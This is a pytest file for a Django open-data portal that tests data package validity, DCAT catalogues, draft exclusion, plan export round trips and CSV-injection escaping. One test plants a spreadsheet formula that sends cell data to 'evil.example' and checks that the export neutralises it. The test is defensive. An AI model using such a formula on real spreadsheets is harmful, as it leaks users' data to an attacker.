"""Open data: valid Frictionless package, DCAT-AP, stable addresses, plan-json round trip."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse

from planmonitor.plans.models import Plan
from tests.reports import factories

FRICTIONLESS = Path(sys.executable).with_name("frictionless")


@pytest.fixture
def built(db):
    return factories.full_year()


def _unzip(content: bytes, folder: Path) -> Path:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        zf.extractall(folder)
    return folder


@pytest.mark.django_db
def test_data_package_is_valid_under_frictionless_validate(client, built, tmp_path):
    """The CLI a re-user would run says the package is valid: types, keys, foreign keys."""
    response = client.get(reverse("portal:open_data_file", args=[built.plan.pk, "datapackage.zip"]))
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    folder = _unzip(response.content, tmp_path / "pkg")
    result = subprocess.run(  # noqa: S603  (our own venv's frictionless on our own file)
        [str(FRICTIONLESS), "validate", "--json", str(folder / "datapackage.json")],
        capture_output=True, text=True, timeout=120, cwd=folder,
    )
    report = json.loads(result.stdout)
    assert report["valid"] is True, result.stdout[:3000]
    assert result.returncode == 0


@pytest.mark.django_db
def test_every_column_is_documented_and_rows_match_the_database(client, built, tmp_path):
    folder = _unzip(client.get(f"/open-data/plans/{built.plan.pk}/datapackage.zip").content, tmp_path / "p")
    descriptor = json.loads((folder / "datapackage.json").read_text())
    assert descriptor["licenses"][0]["name"] == "CC-BY-4.0"
    for resource in descriptor["resources"]:
        header = next(csv.reader((folder / resource["path"]).open(encoding="utf-8-sig")))
        assert header == [f["name"] for f in resource["schema"]["fields"]]
        assert all(f["description"] and f["type"] for f in resource["schema"]["fields"])
    measures = list(csv.DictReader((folder / "measures.csv").open(encoding="utf-8-sig")))
    assert [int(r["measure_id"]) for r in measures] == [m.pk for m in built.measures]
    progress = list(csv.DictReader((folder / "progress.csv").open(encoding="utf-8-sig")))
    assert len(progress) == len(built.measures)  # one period
    reported = {int(r["measure_id"]): r for r in progress if r["reported"] == "true"}
    assert set(reported) == {r.measure_id for r in built.reports}
    for r in built.reports:
        assert reported[r.measure_id]["done"] == r.done_text
        assert reported[r.measure_id]["status"] == r.measure_status


@pytest.mark.django_db
def test_dcat_dataset_and_catalogue(client, built):
    dataset = client.get(f"/open-data/plans/{built.plan.pk}/dcat.jsonld").json()
    assert dataset["@type"] == "dcat:Dataset"
    assert dataset["dct:license"]["@id"] == "https://creativecommons.org/licenses/by/4.0/"
    urls = {d["dcat:downloadURL"]["@id"] for d in dataset["dcat:distribution"]}
    assert f"http://testserver/open-data/plans/{built.plan.pk}/plan.json" in urls
    for url in urls:
        assert client.get(url.replace("http://testserver", "")).status_code == 200
    catalogue = client.get("/open-data/catalog.jsonld").json()
    assert [d["@id"] for d in catalogue["dcat:dataset"]] == [dataset["@id"]]


@pytest.mark.django_db
def test_draft_plans_are_not_open_data(client, built):
    draft = factories.plan(status=Plan.Status.DRAFT, muni=factories.municipality("Чернова"))
    assert client.get(f"/open-data/plans/{draft.pk}/plan.json").status_code == 404
    catalogue = client.get("/open-data/catalog.jsonld").json()
    assert all(f"/plans/{draft.pk}/" not in d["@id"] for d in catalogue["dcat:dataset"])
    with zipfile.ZipFile(io.BytesIO(client.get("/open-data/all.zip").content)) as zf:
        names = zf.namelist()
    assert f"plans/{built.plan.pk}/plan.json" in names
    assert not any(n.startswith(f"plans/{draft.pk}/") for n in names)


@pytest.mark.django_db
def test_plan_json_export_then_import_gives_the_same_plan(client, built):
    """The published plan.json imports (with the plans app's own service) into an identical plan."""
    from planmonitor.plans.services import export_plan, import_plan

    published = client.get(f"/open-data/plans/{built.plan.pk}/plan.json").json()
    assert published["format"] == "plan-json/1"
    assert published["progress"][0]["period"] == built.period.name
    other = factories.municipality("Копие", district="Друга")
    copy = import_plan(published, actor=None, municipality=other, status=Plan.Status.ADOPTED)
    original, again = export_plan(built.plan), export_plan(copy)
    original.pop("municipality"), again.pop("municipality")
    assert again == original


@pytest.mark.django_db
def test_csv_cells_never_start_a_formula_and_open_in_excel_as_utf8(client, tmp_path):
    """A reporter's "=HYPERLINK(...)" is text in every CSV (OWASP CSV injection); plan.json keeps it as typed.

    Excel on a Bulgarian Windows needs the byte order mark to read UTF-8; the package stays valid with it.
    """
    built = factories.full_year(unreported=0)
    planted = '=HYPERLINK("http://evil.example/?x="&A1,"Натисни")'
    measure = built.measures[0]
    measure.text, measure.responsible_raw = "+359 телефон на медиатора", "@Община"
    measure.save(update_fields=["text", "responsible_raw"])
    report = built.reports[0]
    report.done_text = planted
    report.save(update_fields=["done_text"])
    files = {}
    for name in ("measures.csv", "progress.csv", "indicators.csv"):
        response = client.get(f"/open-data/plans/{built.plan.pk}/{name}")
        assert response.content.startswith(b"\xef\xbb\xbf"), name
        files[name] = response.content.decode("utf-8-sig")
    texts = [cell for content in files.values() for row in csv.reader(io.StringIO(content)) for cell in row]
    assert not [cell for cell in texts if cell[:1] in ("=", "+", "@", "\t", "\r")]
    progress = {r["measure_id"]: r for r in csv.DictReader(io.StringIO(files["progress.csv"]))}
    assert progress[str(measure.pk)]["done"] == "'" + planted
    measures = {r["measure_id"]: r for r in csv.DictReader(io.StringIO(files["measures.csv"]))}
    assert measures[str(measure.pk)]["text"] == "'+359 телефон на медиатора"
    assert measures[str(measure.pk)]["responsible"] == "'@Община"
    published = client.get(f"/open-data/plans/{built.plan.pk}/plan.json").json()
    assert published["progress"][0]["measures"][0]["done"] == planted
    folder = _unzip(client.get(f"/open-data/plans/{built.plan.pk}/datapackage.zip").content, tmp_path / "pkg")
    result = subprocess.run(  # noqa: S603  (our own venv's frictionless on our own file)
        [str(FRICTIONLESS), "validate", "--json", str(folder / "datapackage.json")],
        capture_output=True, text=True, timeout=120, cwd=folder,
    )
    assert json.loads(result.stdout)["valid"] is True, result.stdout[:3000]
